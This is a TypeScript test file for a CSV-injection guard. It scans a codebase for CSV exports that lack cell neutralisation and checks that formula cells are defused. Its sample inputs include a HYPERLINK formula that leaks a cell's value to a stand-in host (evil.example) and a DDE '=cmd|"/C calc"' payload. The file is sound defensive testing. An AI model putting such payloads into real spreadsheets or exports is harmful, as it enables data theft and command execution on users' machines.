// Every CSV export goes through csv-safe. Today no API route, CLI command or web page writes CSV (exports are JSON,
// JSON lines, ZIP, STIX, .eml); this test finds any module that starts to — a CSV writer, a text/csv answer, a
// .csv download — and fails unless the same module neutralises its cells with csvSafeCell/csvSafeRow/csvSafeRecord.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { csvSafeCell, csvSafeRecord, csvSafeRow } from './csv-safe.js';

const root = fileURLToPath(new URL('../..', import.meta.url));

/** Signs that a module produces CSV for someone to open (a writer, a content type, a download name). */
const WRITES_CSV = [
  /from\s+['"]csv-stringify/,
  /['"`]text\/(csv|tab-separated-values)/i,
  /filename=["']?[^'"`\n]*\.(csv|tsv)\b/i,
  /\.download\s*=\s*[^;\n]*\.(csv|tsv)\b/i,
  /download\([^)\n]*\.(csv|tsv)['"`]/i,
];
const USES_CSV_SAFE = /import\s*\{[^}]*\bcsvSafe(Cell|Row|Record)\b[^}]*\}\s*from\s*['"][./]*(guard\/)?csv-safe\.js['"]/;

/**
 * Modules that write CSV which is *input*, not an export: the simulator writes vendor-shaped files exactly as a
 * vendor would (a formula-looking value is part of what it simulates), to be read back by our importers.
 */
const NOT_EXPORTS = ['src/simulate/'];

function csvWriterProblems(files: { path: string; text: string }[]): string[] {
  return files
    .filter((f) => !NOT_EXPORTS.some((p) => f.path.startsWith(p)))
    .filter((f) => WRITES_CSV.some((re) => re.test(f.text)))
    .filter((f) => !USES_CSV_SAFE.test(f.text))
    .map((f) => `${f.path}: writes CSV without csvSafeCell/csvSafeRow/csvSafeRecord from src/guard/csv-safe.ts`);
}

function sourceFiles(dir: string, out: { path: string; text: string }[] = []): { path: string; text: string }[] {
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    if (e.name === 'node_modules' || e.name === 'dist' || e.name.startsWith('.')) continue;
    const p = join(dir, e.name);
    if (e.isDirectory()) sourceFiles(p, out);
    else if (/\.(ts|tsx|mjs|js)$/.test(e.name) && !/\.test\.tsx?$/.test(e.name) && !p.includes(`${join('src', 'guard')}`)) {
      out.push({ path: relative(root, p).split('\\').join('/'), text: readFileSync(p, 'utf8') });
    }
  }
  return out;
}

it('no module exports CSV without csv-safe (src/, web/src/, scripts/, bin/)', () => {
  const files = ['src', 'web/src', 'scripts', 'bin'].flatMap((d) => sourceFiles(join(root, d)));
  assert.ok(files.length > 200, `scanned ${files.length} files`);
  assert.deepEqual(csvWriterProblems(files), []);
  // The scan sees what it should: the simulator's writers are found and set aside, not missed.
  assert.ok(files.some((f) => f.path.startsWith('src/simulate/') && WRITES_CSV.some((re) => re.test(f.text))));
});

it('the scan catches the ways an export could be added, and accepts one that uses csv-safe', () => {
  const bad = [
    { path: 'src/api/routes/people-export.ts', text: "import { stringify } from 'csv-stringify/sync';\nreply.send(stringify(rows));" },
    { path: 'src/api/routes/x.ts', text: "return reply.type('text/csv').send(rows.map((r) => r.join(',')).join('\\n'));" },
    { path: 'src/api/routes/y.ts', text: 'reply.header(\'content-disposition\', `attachment; filename="people-${d}.csv"`)' },
    { path: 'web/src/pages/z.tsx', text: "download('people.csv', text, 'text/plain')" },
  ];
  assert.equal(csvWriterProblems(bad).length, bad.length);
  const good = { path: 'src/cli/commands/people-csv.ts', text: "import { stringify } from 'csv-stringify/sync';\nimport { csvSafeRow } from '../../guard/csv-safe.js';\nstringify(rows.map(csvSafeRow));" };
  assert.deepEqual(csvWriterProblems([good]), []);
  assert.deepEqual(csvWriterProblems([{ path: 'src/simulate/writers/okta.ts', text: "import { stringify } from 'csv-stringify/sync';" }]), []);
});

it('through a real CSV writer and reader, formula cells come back defused and plain values unchanged', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', '+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\t42', '＝1+1'];
  const plain = ['Alice Ito', 'alice@corp.example', '2026-04-01', '-12.5', '42', '東京都渋谷区', 'a=b', "it's"];
  const header = { 'employee_id': 'E1', '=cmd|"/C calc"!A0': 'x' };
  const csv = stringify([Object.keys(csvSafeRecord(header)), ...hostile.map((h, i) => csvSafeRow([h, plain[i]]))]);
  const back = parse(csv, { relax_column_count: true }) as string[][];
  assert.deepEqual(back[0], ['employee_id', `'=cmd|"/C calc"!A0`]);
  hostile.forEach((h, i) => {
    assert.equal(back[i + 1]![0], `'${h}`, JSON.stringify(h));
    assert.equal(back[i + 1]![1], plain[i], plain[i]);
  });
  // What a spreadsheet would look at: no cell of the file starts with a trigger any more (negative numbers aside).
  const trigger = /^[=+\-@\t\r＝＋－＠]/;
  const negativeNumber = /^-(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
  for (const row of back) for (const cell of row) assert.ok(!trigger.test(cell) || negativeNumber.test(cell), JSON.stringify(cell));
  assert.equal(csvSafeCell('-2+3'), "'-2+3");
});
